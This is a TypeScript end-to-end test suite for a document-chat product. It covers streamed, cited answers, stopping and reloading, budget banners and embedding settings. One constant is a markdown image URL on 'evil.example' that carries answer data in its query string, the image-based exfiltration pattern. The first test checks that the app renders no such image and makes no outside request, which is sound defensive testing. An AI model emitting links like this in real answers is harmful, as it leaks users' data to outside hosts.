import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { ChatMessage, ChatSession } from "../contract/conversations.ts";
import type { Account } from "../test/accounts.ts";
import { uploadDocument, waitForDocument } from "../test/documents.ts";
import { startFakeEmbeddings, type FakeEmbeddings } from "../test/fake-embeddings/embeddings.ts";
import {
  startFakeLanguageModel,
  type FakeLanguageModel,
} from "../test/fake-language-model/language-model.ts";
import { withTenant } from "../server/database/database.ts";
import { accessibilityFaults } from "./accessibility.ts";
import { leavePolicyDocx } from "./leave-policy.ts";
import { openPageOfNewAccount, sidewaysScroll, startProduct, type Product } from "./product.ts";

let model: FakeLanguageModel;
let embeddings: FakeEmbeddings;
let product: Product;
let page: Page;
let account: Account;
const foreign: string[] = [];
beforeAll(async () => {
  model = await startFakeLanguageModel();
  embeddings = await startFakeEmbeddings();
  product = await startProduct({
    LLM_BASE_URL: model.url,
    LLM_API_KEY: "secret",
    LLM_MODEL: "fake",
    LLM_TIMEOUT_SECONDS: "60",
    LLM_PRICE_INPUT: "10",
    LLM_PRICE_OUTPUT: "40",
    EMBEDDINGS_BASE_URL: embeddings.url,
    EMBEDDINGS_API_KEY: "secret",
    EMBEDDINGS_MODEL: "words",
  });
  ({ page, account } = await openPageOfNewAccount(product));
  const { id } = await uploadDocument(account, { name: "Leave Policy.docx", bytes: await leavePolicyDocx() });
  expect(await waitForDocument(account, id)).toMatchObject({ status: "completed" });
  page.on("request", (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol.startsWith("http") && origin !== product.server.url) foreign.push(origin);
  });
});
afterAll(async () => {
  await product.close();
  await model.close();
  await embeddings.close();
});

const first = "Every employee receives 21 days of paid annual leave in each leave year";
const second = "Unused annual leave lapses six months after the end of the leave year";
const image = "![chart](https://evil.example/x.png?d=21)";

/** A place where the model waits until it is told to write on. */
function gate(): { reached: Promise<void>; open: () => void } {
  let open: () => void = () => undefined;
  return { reached: new Promise((resolve) => (open = resolve)), open: () => open() };
}

async function ask(): Promise<void> {
  const question = page.getByRole("textbox", { name: "Your question" });
  await question.fill("How many days of annual leave does every employee receive?");
  await question.press("Enter");
}

const log = () => page.getByRole("log");
async function written(count: number): Promise<void> {
  await expect.poll(() => model.writtenAt.length).toBeGreaterThanOrEqual(count);
}

test("an answer appears sentence by sentence, each once it is confirmed, and is stopped", async () => {
  const [start, cite, goOn, end] = [gate(), gate(), gate(), gate()];
  model.next({
    kind: "write",
    pieces: [
      "SURE\n",
      start.reached,
      first,
      cite.reached,
      " [1].",
      goOn.reached,
      ` ${second} ${image} [1].`,
      " And",
      end.reached,
      " more.",
    ],
  });
  await page.goto("/chat");
  await ask();
  await log().getByText("Looking it up").waitFor({ state: "attached" });
  start.open();
  await written(2);
  // It is written, but nothing says yet where it stands.
  expect(await log().getByText(first).count()).toBe(0);
  cite.open();
  await log().getByText(`${first}.`).waitFor();
  expect(
    await log()
      .getByText(/Confidence/)
      .count(),
  ).toBe(0);
  await page.getByRole("button", { name: "Stop answering" }).waitFor();
  expect(await accessibilityFaults(page)).toEqual([]);
  await page.setViewportSize({ width: 360, height: 740 });
  expect(await sidewaysScroll(page)).toBe(0);
  await page.setViewportSize({ width: 1280, height: 800 });
  goOn.open();
  await written(5);
  await page.getByRole("button", { name: "Stop answering" }).click();
  await log().getByText("Worded by a language model").waitFor();
  expect(
    await log()
      .getByText(/evil|chart/u)
      .count(),
  ).toBe(0);
  expect(await log().getByText("And").count()).toBe(0);
  await page.getByRole("button", { name: "Send" }).waitFor();
  end.open();
  expect(await log().locator("img[src^='http']").count()).toBe(0);
  expect(foreign).toEqual([]);
});

test("an answer that is being written when the page is loaded again is kept once, and the chat goes on", async () => {
  const rest = gate();
  model.next({ kind: "write", pieces: ["SURE\n", `${first} [1].`, rest.reached, ` ${second} [1].`] });
  await ask();
  await expect.poll(() => log().getByText(`${first}.`).count()).toBe(2);
  await page.reload();
  await log().getByText(`${first}.`).first().waitFor();
  rest.open();
  const sessions = await account.request("GET", `/api/organizations/${account.organizationId}/chat/sessions`);
  const [session] = ChatSession.array().parse(sessions.json());
  const messages = async () =>
    ChatMessage.array().parse(
      (await account.request("GET", `/api/chat/sessions/${session?.id}/messages`)).json(),
    );
  await expect.poll(async () => (await messages()).length).toBe(4);
  expect((await messages()).at(-1)?.content).toBe(`${first}. ${second}.`);
});

test("a budget that is nearly used up is said on every screen until it is put away", async () => {
  const url = `/api/organizations/${account.organizationId}/model-usage`;
  const { costMicros } = (await account.request("GET", url)).json<{ costMicros: number }>();
  await account.request("PUT", `${url}/budget`, { budgetMicros: Math.floor(costMicros / 0.9) });
  const banner = page.getByRole("status").filter({ hasText: "More than 80%" });
  await banner.waitFor();
  expect(await accessibilityFaults(page)).toEqual([]);
  await banner.getByRole("button", { name: "Put this away" }).click();
  await banner.waitFor({ state: "detached" });
  await account.request("PUT", `${url}/budget`, { budgetMicros: costMicros });
  const usedUp = page.getByRole("status").filter({ hasText: "is used up" });
  await usedUp.getByRole("link", { name: "See the budget" }).click();
  await page.getByRole("meter", { name: "Budget used this month" }).waitFor();
});

test("settings tell how many passages are embedded, and what to do where they are too many to search", async () => {
  const { db, events } = product.server.context;
  const { organizationId } = account;
  const card = page.getByRole("status").filter({ hasText: "passages embedded" });
  await card.waitFor();
  expect(await card.textContent()).not.toContain("pgvector");
  await withTenant(db, organizationId, async (trx) => {
    await trx.updateTable("index_versions").set({ chunk_count: 5_000_000 }).execute();
    await events.publish(trx, organizationId, { type: "embeddings.updated" });
  });
  await card.filter({ hasText: /5.000.000 of 5.000.000/ }).waitFor();
  const url = `/api/organizations/${organizationId}/embeddings`;
  const { searched } = (await account.request("GET", url)).json<{ searched: boolean }>();
  // The PostgreSQL of the tests may have pgvector.
  expect((await card.textContent())?.includes("pgvector")).toBe(!searched);
  expect(await accessibilityFaults(page)).toEqual([]);
  await page.setViewportSize({ width: 360, height: 740 });
  expect(await sidewaysScroll(page)).toBeLessThanOrEqual(0);
});
